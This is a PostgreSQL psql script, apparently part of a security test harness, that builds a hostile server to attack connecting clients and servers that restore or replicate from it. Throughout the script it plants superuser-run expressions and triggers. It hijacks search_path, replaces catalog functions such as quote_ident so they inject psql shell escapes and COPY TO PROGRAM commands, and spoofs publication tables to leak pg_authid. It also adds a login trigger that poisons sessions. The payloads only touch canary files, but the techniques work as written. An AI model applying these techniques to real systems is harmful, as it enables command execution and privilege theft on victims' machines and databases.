-- A PostgreSQL server (14 to 18) whose superuser is the attacker. What he runs on his own server is his; the victims are
-- the machine of whoever connects, and the server that a migration or rehearsal copies this one to.
--
--   psql -X -v ON_ERROR_STOP=1 -v canary=/tmp/canary -f hostile-superuser.sql 'host=/tmp user=postgres dbname=postgres'
--
-- hostile-owner.sql describes the canaries. Here a line of the canary file counts only with the port of another server.
-- Besides: another server has the superuser `canary` or `crown`, or a setting in pg_db_role_setting which this one has.
--
-- Everything is in the database `shop`. Connect to it with the parameter adversary.setup = 'on' to look around unhurt.

\set QUIET on
SET client_min_messages = warning;
SET adversary.setup = 'on';
SELECT current_setting('server_version_num')::int AS version,
  current_setting('server_version_num')::int >= 150000 AS is_15,
  current_setting('server_version_num')::int >= 160000 AS is_16,
  current_setting('server_version_num')::int >= 170000 AS is_17,
  :'canary' || '.run' AS file \gset

CREATE ROLE boss SUPERUSER LOGIN PASSWORD 'boss';
-- With an oid of the system, no copy of roles takes it for a role of a user.
CREATE ROLE crown SUPERUSER LOGIN PASSWORD 'crown';
UPDATE pg_authid SET oid = 9990 WHERE rolname = 'crown';
CREATE ROLE mallory LOGIN PASSWORD 'mallory' CREATEROLE CREATEDB REPLICATION BYPASSRLS;
GRANT pg_execute_server_program, pg_write_server_files, pg_read_server_files TO mallory;
GRANT boss TO mallory;
ALTER ROLE mallory SET application_name = E'x\n\\! touch x';
CREATE DATABASE shop;
\connect -reuse-previous=on shop
SET client_min_messages = warning;
SET adversary.setup = 'on';
SET allow_system_table_mods = on;
\ir canary-functions.sql

-- Objects of a superuser: what a restore creates as a superuser runs as one.
CREATE TABLE public.orders (id integer PRIMARY KEY, note text DEFAULT evil.fire('DEFAULT')::text, CHECK (evil.fire('CHECK')));
CREATE INDEX orders_predicate ON public.orders (note) WHERE evil.fire('predicate of an index');
CREATE INDEX orders_expression ON public.orders ((evil.fire('expression of an index')));
CREATE STATISTICS public.orders_statistics ON (evil.fire('extended statistics')), note FROM public.orders;
INSERT INTO public.orders SELECT n, 'x' FROM generate_series(1, 300) n;
CREATE TABLE public.generated (id integer PRIMARY KEY, g boolean GENERATED ALWAYS AS (evil.fire('generated column')) STORED);
INSERT INTO public.generated VALUES (1);
CREATE TRIGGER always AFTER INSERT ON public.orders FOR EACH ROW EXECUTE FUNCTION evil.fire_trigger();
ALTER TABLE public.orders ENABLE ALWAYS TRIGGER always;
CREATE DOMAIN public.checked AS text DEFAULT evil.fire('DEFAULT of a domain')::text CHECK (evil.fire('CHECK of a domain'));
CREATE TABLE public.domained (id integer PRIMARY KEY, d public.checked);
INSERT INTO public.domained VALUES (1, 'x');
CREATE MATERIALIZED VIEW public.filled AS SELECT evil.fire('materialized view') AS fired;
CREATE UNIQUE INDEX filled_index ON public.filled ((evil.fire_number('index of a materialized view')));
CREATE TABLE public.parted (id integer) PARTITION BY LIST ((CASE WHEN evil.fire('key of a partition') THEN id END));
CREATE TABLE public.parted_one PARTITION OF public.parted FOR VALUES IN (1);
CREATE FUNCTION public.definer() RETURNS boolean LANGUAGE plpgsql SECURITY DEFINER AS $$ BEGIN RETURN evil.sing('SECURITY DEFINER'); END $$;
CREATE FUNCTION public.leak(text) RETURNS boolean LANGUAGE plpgsql LEAKPROOF AS $$ BEGIN RETURN evil.sing('LEAKPROOF'); END $$;
-- A sequence with a DEFAULT that refers to it, and names that look like ours.
CREATE SEQUENCE public.numbers;
SELECT nextval('public.numbers') \g /dev/null
CREATE PUBLICATION cloudctl FOR ALL TABLES;

-- Event triggers: a superuser who creates them on another server has them run in each DDL statement of everybody there.
CREATE FUNCTION evil.fire_event() RETURNS event_trigger LANGUAGE plpgsql AS $$ BEGIN PERFORM evil.sing('event trigger ' || TG_EVENT); END $$;
CREATE EVENT TRIGGER at_start ON ddl_command_start EXECUTE FUNCTION evil.fire_event();
CREATE EVENT TRIGGER at_end ON ddl_command_end EXECUTE FUNCTION evil.fire_event();
CREATE EVENT TRIGGER at_drop ON sql_drop EXECUTE FUNCTION evil.fire_event();
ALTER EVENT TRIGGER at_start ENABLE ALWAYS;
ALTER EVENT TRIGGER at_end ENABLE ALWAYS;
ALTER EVENT TRIGGER at_drop ENABLE ALWAYS;

-- Stored settings which a copy would set for the superuser of another server.
ALTER DATABASE shop SET search_path = evil, public;
ALTER ROLE postgres SET search_path = evil;
ALTER ROLE postgres IN DATABASE shop SET search_path = evil, public;

-- Definitions that say more than the object: what reads them and executes them runs the rest.
CREATE FUNCTION evil.payload() RETURNS text LANGUAGE sql AS $$
  SELECT format('; DO %L;', format('BEGIN EXECUTE format(''COPY (SELECT %%L) TO PROGRAM %%L'', %L || current_setting(''port'') || '' database='', %L); EXCEPTION WHEN OTHERS THEN NULL; END',
    'attack=a_definition port=', 'cat >> ' || evil.canary_path()))
$$;
SELECT format('CREATE FUNCTION evil.command() RETURNS text LANGUAGE sql AS %L', format('SELECT %L::text', E'"\n\\! touch ' || :'file' || E'\n"')) \gexec
DO $replace$
DECLARE
  f record;
BEGIN
  FOR f IN
    SELECT p.oid, proname, pg_get_function_identity_arguments(p.oid) AS arguments, pronargs, format_type(prorettype, NULL) AS result
    FROM pg_proc p
    WHERE pronamespace = 'pg_catalog'::regnamespace AND provariadic = 0 AND proname IN (
      'quote_ident', 'quote_literal', 'quote_nullable', 'pg_get_indexdef', 'pg_get_triggerdef',
      'pg_get_ruledef', 'pg_get_functiondef', 'pg_get_statisticsobjdef', 'obj_description', 'col_description')
      AND prorettype = 'text'::regtype
  LOOP
    EXECUTE format('ALTER FUNCTION pg_catalog.%I(%s) RENAME TO %I', f.proname, f.arguments, 'real_' || f.proname);
    EXECUTE format('CREATE FUNCTION pg_catalog.%I(%s) RETURNS text LANGUAGE sql STABLE AS %L', f.proname, f.arguments,
      format('SELECT pg_catalog.%I(%s) || %s', 'real_' || f.proname,
        (SELECT string_agg('$' || n, ', ') FROM generate_series(1, f.pronargs) n),
        CASE WHEN f.proname ~ '^quote' THEN 'evil.command()' ELSE 'evil.payload()' END));
  END LOOP;
END
$replace$;

-- A function that is not told from a built-in one by its oid.
CREATE PROCEDURE evil.hide() LANGUAGE sql AS $$
  UPDATE pg_proc p SET oid = n.oid FROM (
    SELECT oid AS old, (9000 + row_number() OVER (ORDER BY oid))::int::oid AS oid FROM pg_proc
    WHERE pronamespace = 'pg_catalog'::regnamespace AND oid >= 16384) n
  WHERE p.oid = n.old
$$;

-- Tables of the catalog, offered to the subscription of another server: it copies them into its own.
CREATE TABLE public.decoy AS SELECT * FROM pg_catalog.pg_authid LIMIT 0;
CREATE PUBLICATION offered FOR ALL TABLES;
ALTER FUNCTION pg_catalog.pg_get_publication_tables RENAME TO real_pg_get_publication_tables;
\if :is_15
CREATE PUBLICATION decoy FOR TABLE public.decoy WHERE (rolname = 'crown');
\endif
\if :is_16
CREATE FUNCTION pg_catalog.pg_get_publication_tables(VARIADIC pubname text[], OUT pubid oid, OUT relid oid, OUT attrs int2vector, OUT qual pg_node_tree)
RETURNS SETOF record LANGUAGE sql STABLE AS $$
  SELECT * FROM pg_catalog.real_pg_get_publication_tables(VARIADIC pubname)
  UNION ALL SELECT (SELECT oid FROM pg_catalog.pg_publication p WHERE p.pubname = $1[1]), 'pg_catalog.pg_authid'::regclass, NULL, (SELECT prqual FROM pg_catalog.pg_publication_rel WHERE prrelid = 'public.decoy'::regclass)
  UNION ALL SELECT (SELECT oid FROM pg_catalog.pg_publication p WHERE p.pubname = $1[1]), 'pg_catalog.pg_db_role_setting'::regclass, NULL, NULL
$$;
\elif :is_15
CREATE FUNCTION pg_catalog.pg_get_publication_tables(pubname text, OUT relid oid, OUT attrs int2vector, OUT qual pg_node_tree)
RETURNS SETOF record LANGUAGE sql STABLE AS $$
  SELECT * FROM pg_catalog.real_pg_get_publication_tables(pubname)
  UNION ALL SELECT 'pg_catalog.pg_authid'::regclass, NULL, (SELECT prqual FROM pg_catalog.pg_publication_rel WHERE prrelid = 'public.decoy'::regclass)
  UNION ALL SELECT 'pg_catalog.pg_db_role_setting'::regclass, NULL, NULL
$$;
\else
CREATE FUNCTION pg_catalog.pg_get_publication_tables(pubname text, OUT relid oid) RETURNS SETOF oid LANGUAGE sql STABLE AS $$
  SELECT relid FROM pg_catalog.real_pg_get_publication_tables(pubname)
  UNION ALL SELECT 'pg_catalog.pg_db_role_setting'::regclass
$$;
CALL evil.hide();
CREATE OR REPLACE VIEW pg_catalog.pg_publication_tables AS
  SELECT p.pubname, n.nspname AS schemaname, c.relname AS tablename
  FROM pg_publication p, LATERAL pg_get_publication_tables(p.pubname::text) gpt(relid), pg_class c JOIN pg_namespace n ON n.oid = c.relnamespace
  WHERE c.oid = gpt.relid;
\endif
CALL evil.hide();
DROP PROCEDURE evil.hide;
DROP PUBLICATION offered;
DROP PUBLICATION cloudctl;

-- Settings as this server reports them.
CREATE OR REPLACE VIEW pg_catalog.pg_file_settings AS SELECT * FROM pg_catalog.pg_show_all_file_settings();
SELECT pg_get_viewdef('pg_catalog.pg_settings'::regclass) \g /dev/null
DO $view$
DECLARE
  columns text;
BEGIN
  SELECT string_agg(CASE
      WHEN attname IN ('setting', 'reset_val', 'boot_val') THEN format(
        'CASE WHEN a.name IN (''listen_addresses'', ''cluster_name'', ''archive_command'', ''TimeZone'') THEN a.%1$I || evil.command() ELSE a.%1$I END AS %1$I', attname)
      ELSE format('a.%I', attname) END, ', ' ORDER BY attnum)
    INTO columns FROM pg_attribute WHERE attrelid = 'pg_catalog.pg_settings'::regclass AND attnum > 0;
  EXECUTE format('CREATE OR REPLACE VIEW pg_catalog.pg_settings AS SELECT %s FROM pg_show_all_settings() a', columns);
END
$view$;

-- From release 17 on: a trigger that prepares the session of everybody who connects.
\if :is_17
CREATE FUNCTION evil.prepare_session() RETURNS event_trigger LANGUAGE plpgsql AS $$
BEGIN
  PERFORM evil.sing('login trigger');
  IF current_setting('adversary.setup', true) = 'on' OR current_setting('is_superuser') = 'off' AND session_user = 'postgres' THEN RETURN; END IF;
  CREATE TEMPORARY TABLE pg_class (oid oid, relname name);
  CREATE FUNCTION pg_temp.pg_backend_pid() RETURNS integer LANGUAGE sql AS 'SELECT 1';
  CREATE FUNCTION pg_temp.quote_ident(text) RETURNS text LANGUAGE sql AS 'SELECT $1 || evil.command()';
  SET search_path = pg_temp, evil, pg_catalog;
  SET standard_conforming_strings = off;
  SET quote_all_identifiers = on;
  SET bytea_output = 'escape';
  SET DateStyle = 'SQL, DMY';
  RAISE NOTICE E'\x1b]0;owned\x07%', repeat('x', 1000);
END
$$;
CREATE EVENT TRIGGER at_login ON login EXECUTE FUNCTION evil.prepare_session();
ALTER EVENT TRIGGER at_login ENABLE ALWAYS;
\endif
